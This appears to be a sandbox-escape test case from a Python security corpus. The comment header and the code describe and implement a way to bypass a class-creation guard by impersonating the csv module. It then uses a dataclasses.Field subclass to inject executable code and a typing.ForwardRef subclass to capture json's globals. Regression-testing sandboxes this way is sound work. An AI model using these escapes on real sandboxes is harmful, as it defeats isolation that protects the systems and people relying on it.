# technique: since 5a55677 the class guard's "own module" exemption (no check of bases, module or typing markers) is kept only for csv: a class whose namespace names module 'csv', made while the current frame is csv.Sniffer.sniff; sniff is a plain function of a Python class, so csv.Sniffer.sniff(obj, sample, delimiters) runs with any obj as self, and its first line unpacks four values from obj._guess_quote_and_delimiter(sample, delimiters): with that attribute itertools.starmap, sample the metaclass type(abc.ABC) and delimiters four (name, bases, namespace) triples, the unpacking in sniff's frame calls the metaclass four times from C, and sniff stores the classes on the dialect it returns (dialect.delimiter); any base is then accepted: a dataclasses.Field subclass whose name property answers None until dataclasses has set it (the set-once rule) and code afterwards, and a typing.ForwardRef subclass whose _evaluate (overriding the runtime's guard on ForwardRef._evaluate) receives json's real globals from typing.get_type_hints via functools.singledispatch.register
# source: 170 (frame-based provenance of class creation) through a function called with a foreign self and a C iterator (itertools.starmap) driven by the trusted frame's own tuple unpacking
# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import abc, csv, dataclasses, functools, itertools, json, typing


class Sniffing:
    # csv.Sniffer.sniff(self, sample, delimiters) begins with
    # quotechar, ... = self._guess_quote_and_delimiter(sample, delimiters)
    _guess_quote_and_delimiter = itertools.starmap


def of_csv(name, bases, ns, **kw):
    ns = dict(ns)
    ns[dn('module')] = 'csv'
    meta = functools.partial(type(abc.ABC), **kw)  # still C: sniff's frame stays current
    args = (name, bases, ns)
    dialect = csv.Sniffer.sniff(Sniffing(), meta, [args] * 4)
    return dialect.delimiter


# 1. a dataclasses.Field subclass whose name answers None until it is set
GOT = []
NAME = [None]


def get_name(self):
    return NAME[0]


def set_name(self, value):
    NAME[0] = value if NAME[0] is None and TEXT[0] is None else TEXT[0]


TEXT = [None]


def generated(expr):
    LyingField = of_csv('LyingField', (dataclasses.Field,), {'name': property(get_name, set_name)})
    NAME[0], TEXT[0] = None, None
    field = LyingField(0, dataclasses.MISSING, False, False, None, False, None, False)
    TEXT[0] = 'a=GOT.append(' + expr + '),_return_type=None,**k):#'

    class K:
        a: int = field

    GOT.clear()
    try:
        dataclasses.dataclass(K)
    finally:
        TEXT[0] = None
    return GOT[-1]

attempt('Field subclass (csv-made) -> exec json.dumps.__globals__',
        lambda: generated('json.dumps.' + dn('globals')))

# 2. a typing.ForwardRef subclass whose _evaluate receives the globals
SEEN = []


def evaluate(self, globalns, localns, *rest):
    SEEN.append(globalns)
    return int


def noop(self, value):
    pass


def globals_of(fn):
    ForwardRef = type(typing.get_args(typing.List['int'])[0])
    Ref = of_csv('Ref', (ForwardRef,), {'_eval' + 'uate': evaluate}, **{'_root': True})
    Fake = of_csv('Fake', (), {dn('annotations'): property(lambda self: {'x': Ref('int')}, noop)})
    fake = Fake()
    functools.update_wrapper(fake, fn)

    @functools.singledispatch
    def f(x):
        return x

    SEEN.clear()
    f.register(fake)
    return SEEN[-1]

attempt('ForwardRef subclass (csv-made) _evaluate <- json.dumps globals', lambda: globals_of(json.dumps))
